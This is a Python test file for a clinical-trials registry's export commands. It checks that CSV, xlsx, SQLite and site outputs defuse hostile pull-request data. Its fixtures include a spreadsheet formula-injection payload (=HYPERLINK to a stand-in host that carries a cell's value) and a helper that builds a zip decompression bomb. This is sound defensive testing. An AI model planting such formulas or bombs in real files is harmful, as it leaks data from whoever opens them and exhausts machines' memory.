"""Pull-request attacks on the generated outputs: a record that passes `trials check` (with the
pull request's schema, which review alone can judge) and the table, the workbook, the database or
the site then say what no record holds, run a formula in a spreadsheet, or stop the export.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from pathlib import Path

from conftest import AS_OF_LINE, IM19_PATH, Trials, add_source, im19_draft, joined, put
from sle_trials.outputs import export

SOURCE = "seeds/931_formulas.txt"


def _row(registry: Path) -> dict[str, str]:
    text = (registry / "trials.csv").read_text(encoding="utf-8")
    [row] = [r for r in csv.DictReader(io.StringIO(text, newline="")) if r["nct_id"] == "NCT06513429"]
    return row


# --- the formula guard is the writer's own rule, whatever the schema says ---------------------------
#
# The CSV guarded the cells of its text columns only: a cell of a number or boolean column was written
# as it came. A pull request that changed two lines of the schema (enrollment.count and
# healthy_volunteers may be text) and added a draft whose count is =HYPERLINK(...) and whose
# healthy_volunteers is @SUM(...) passed `trials check` (the schema is the pull request's, and the
# summary names it only as "schema: changed"), and trials.csv held both formulas as they were.

FORMULAS = {
    "enrollment": ("count", '=HYPERLINK("https://example.invalid/?"&A1,"6")'),
    "healthy_volunteers": ("healthy_volunteers", "@SUM(1+1)"),
}


def _loosened(registry: Path) -> None:
    """The schema with enrollment.count and eligibility.healthy_volunteers allowed to be text, and
    called the curator's words (which no quote binds, E517)."""
    schema = registry / "schema" / "trial.schema.json"
    text = schema.read_text(encoding="utf-8")
    words = r'\1["{}", "string"], "x-curator-words": true'
    loose = re.sub(r'("count": \{\s*"type": )"integer"', words.format("integer"), text, count=1)
    loose = re.sub(r'("healthy_volunteers": \{\s*"type": )"boolean"', words.format("boolean"), loose, count=1)
    assert loose.count('"string"], "x-curator-words": true') == 2, "the schema's shape changed: update the test"
    schema.write_text(loose, encoding="utf-8")


def test_a_formula_in_a_number_or_boolean_column_is_guarded_whatever_the_schema_allows(
    registry: Path, trials: Trials
) -> None:
    _loosened(registry)
    add_source(
        registry,
        SOURCE,
        "Trial NCT06513429: IM19 CAR-T Cell Therapy in Refractory Systemic Lupus Erythematosus (SLE)\n" + AS_OF_LINE,
    )
    count, volunteers = FORMULAS["enrollment"][1], FORMULAS["healthy_volunteers"][1]
    put(
        registry,
        IM19_PATH,
        joined(
            im19_draft(SOURCE),
            f"enrollment:\n  count: {json.dumps(count)}\n"
            + f"eligibility:\n  healthy_volunteers: {json.dumps(volunteers)}\n",
        ),
    )
    result = trials("csv")
    assert result.status == 0, result.out + result.err  # the loosened schema takes them: only review can tell
    row = _row(registry)
    assert row["enrollment"] == "'" + count and row["healthy_volunteers"] == "'" + volunteers, row
    assert export.unguard(row["enrollment"]) == count
    for name, cell in row.items():
        assert cell[:1] not in "=+-@\t\r\n" or cell == "", (name, cell)


def _formulas_record(registry: Path) -> None:
    _loosened(registry)
    add_source(
        registry,
        SOURCE,
        "Trial NCT06513429: IM19 CAR-T Cell Therapy in Refractory Systemic Lupus Erythematosus (SLE)\n" + AS_OF_LINE,
    )
    count, volunteers = FORMULAS["enrollment"][1], FORMULAS["healthy_volunteers"][1]
    put(
        registry,
        IM19_PATH,
        joined(
            im19_draft(SOURCE),
            f"enrollment:\n  count: {json.dumps(count)}\n"
            + f"eligibility:\n  healthy_volunteers: {json.dumps(volunteers)}\n",
        ),
    )


def test_the_exports_hold_a_text_in_a_number_column_as_that_text(
    registry: Path, trials: Trials, tmp_path: Path
) -> None:
    """With the same loosened schema, the workbook said FALSE for healthy_volunteers @SUM(1+1) (any text
    but "true" was false), and the workbook, the database and the site stopped with an internal error
    on the count: each holds a value that is not of its column's type as the text it is."""
    import openpyxl

    _formulas_record(registry)
    count, volunteers = FORMULAS["enrollment"][1], FORMULAS["healthy_volunteers"][1]
    book = tmp_path / "t.xlsx"
    assert trials("export", "xlsx", "--output", book).status == 0
    sheet = openpyxl.load_workbook(book)["trials"]
    header = [c.value for c in sheet[1]]
    [cells_] = [r for r in sheet.iter_rows(min_row=2) if r[0].value == "NCT06513429"]
    got = {name: (c.value, c.data_type) for name, c in zip(header, cells_)}
    assert got["enrollment"] == (count, "s") and got["healthy_volunteers"] == (volunteers, "s"), got
    database = tmp_path / "t.db"
    assert trials("export", "sqlite", "--output", database).status == 0
    with sqlite3.connect(database) as db:
        stored = db.execute("SELECT enrollment, healthy_volunteers FROM trials WHERE nct_id = 'NCT06513429'").fetchone()
    assert stored == (count, volunteers), stored
    assert trials("site", "--output", tmp_path / "site").status == 0


# --- what is at an output's place is read within bounds -------------------------------------------
#
# `trials export xlsx` replaces only a workbook it wrote, and told one by inflating the zip's
# xl/workbook.xml whole. A pull request can commit a trials.xlsx (git add -f past .gitignore) at the
# export's default place: one of a megabyte whose workbook.xml inflates to a gigabyte made the command
# allocate the gigabyte (a MemoryError under a limit, the machine's memory without one) before it
# wrote anything.


def _bomb(path: Path, inflated: int) -> None:
    import zipfile

    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book, book.open("xl/workbook.xml", "w") as part:
        part.write(b'<workbook><sheets><sheet name="trials"/><sheet name="columns"/></sheets>')
        chunk = b" " * (1 << 20)
        for _ in range(inflated >> 20):
            part.write(chunk)
        part.write(b"</workbook>")


def test_a_workbook_at_the_output_that_inflates_without_bound_is_not_inflated(
    registry: Path, trials: Trials, tmp_path: Path
) -> None:
    import tracemalloc

    from sle_trials.outputs import xlsx

    bomb = registry / "trials.xlsx"
    _bomb(bomb, 128 << 20)
    assert bomb.stat().st_size < 1 << 20
    tracemalloc.start()
    try:
        assert xlsx.is_workbook(bomb) is False
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 16 << 20, f"{peak:,} bytes to look at a file of {bomb.stat().st_size:,}"
    result = trials("export", "xlsx")
    assert result.status == 2 and "not a workbook" in result.err, result.err


def test_a_workbook_at_the_output_with_a_damaged_stream_is_not_one(registry: Path, trials: Trials) -> None:
    """A part whose deflate stream is damaged raised zlib.error, which no one caught: an internal error
    (exit 3) where the file is simply not a workbook this command wrote (exit 2)."""
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("xl/workbook.xml", b"<workbook>" + b"xyz" * 5000 + b"</workbook>")
    raw = bytearray(out.getvalue())
    data = raw.index(b"xl/workbook.xml") + len(b"xl/workbook.xml")
    raw[data : data + 30] = b"\xff" * 30  # an invalid block type
    (registry / "trials.xlsx").write_bytes(bytes(raw))
    result = trials("export", "xlsx")
    assert result.status == 2 and "not a workbook" in result.err, result.err
